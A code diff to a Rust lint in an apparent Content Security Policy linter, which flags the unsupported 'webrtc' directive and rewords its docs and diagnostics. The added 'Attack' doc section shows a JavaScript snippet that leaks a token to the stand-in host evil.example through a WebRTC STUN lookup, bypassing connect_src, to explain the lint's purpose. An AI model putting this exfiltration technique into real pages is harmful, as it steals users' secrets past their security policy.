@@ -6,13 +6,23 @@ use crate::policy::SecurityPolicy;
 lint! {
     /// # What it does
     ///
-    /// Looks for directives and keywords of the specification that no browser knows without a flag: `webrtc`, and
-    /// `unsafe_webtransport_hashes`, which is a warning.
+    /// Looks for parts of the specification that no browser supports without a flag: the directive `webrtc`, and the
+    /// keyword `unsafe_webtransport_hashes`, which is a warning.
     ///
     /// # Why it matters
     ///
-    /// Browsers ignore a directive that they do not know, so that WebRTC goes on connecting to every host. A keyword that they
-    /// do not know allows nothing.
+    /// Browsers ignore a directive that they do not know, so that WebRTC still connects to every host. A keyword that
+    /// they do not know allows nothing.
+    ///
+    /// # Attack
+    ///
+    /// A compromised script sends data over WebRTC, which neither `connect_src` nor the ignored directive covers:
+    ///
+    /// ```js
+    /// const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${token}.evil.example` }] });
+    /// peer.createDataChannel("");
+    /// peer.createOffer().then(offer => peer.setLocalDescription(offer));
+    /// ```
     ///
     /// # Example
     ///
@@ -20,17 +30,28 @@ lint! {
     /// content_security_policy: { default_src: self, webrtc: block },
     /// ```
     ///
-    /// # Fine
+    /// # Fix
+    ///
+    /// Remove it.
     ///
     /// ```text
     /// content_security_policy: { default_src: self, connect_src: self },
     /// ```
     ///
+    /// # Allow
+    ///
+    /// ```text
+    /// #[allow(csp_unrecognized, reason = "takes effect as soon as a browser supports it")]
+    /// webrtc: block,
+    /// ```
+    ///
+    /// Harmless, as long as nothing relies on it.
+    ///
     /// # References
     ///
-    /// - [CSP3, section 6.5.1](https://w3c.github.io/webappsec-csp/#directive-webrtc)
-    /// - [CSP3, section 2.3.1](https://w3c.github.io/webappsec-csp/#grammardef-unsafe-webtransport-hashes)
-    Deny "a directive or keyword that no browser recognizes", check
+    /// - [CSP3, section 6.5.1, webrtc](https://w3c.github.io/webappsec-csp/#directive-webrtc)
+    /// - [CSP3, section 2.3.1, unsafe-webtransport-hashes](https://w3c.github.io/webappsec-csp/#grammardef-unsafe-webtransport-hashes)
+    Deny "a directive or keyword that no browser supports", check
 }
 
 fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
@@ -38,9 +59,9 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
         if DIRECTIVES.contains(&clause.directive.node) {
             let key = clause.directive.node.key();
             report.push(
-                Diagnostic::finding(clause.directive.span, format!("no browser recognizes `{key}`"))
+                Diagnostic::finding(clause.directive.span, format!("no browser supports `{key}`"))
                     .help(format!("remove `{key}`"))
-                    .note("browsers report an unrecognized directive and ignore it, so that it restricts nothing")
+                    .note("browsers ignore a directive that they do not know, so that it restricts nothing")
                     .remove(clause.directive.span),
             );
         }
@@ -51,9 +72,9 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
             let dsl = source.node.dsl();
             report.push_at(
                 Level::Warn,
-                Diagnostic::finding(source.span, format!("no browser recognizes `{dsl}`"))
+                Diagnostic::finding(source.span, format!("no browser supports `{dsl}`"))
                     .help(format!("remove `{dsl}`"))
-                    .note("browsers report an invalid source and ignore it, so that it allows nothing")
+                    .note("browsers ignore a source that they do not know, so that it allows nothing")
                     .remove(source.span),
             );
         }
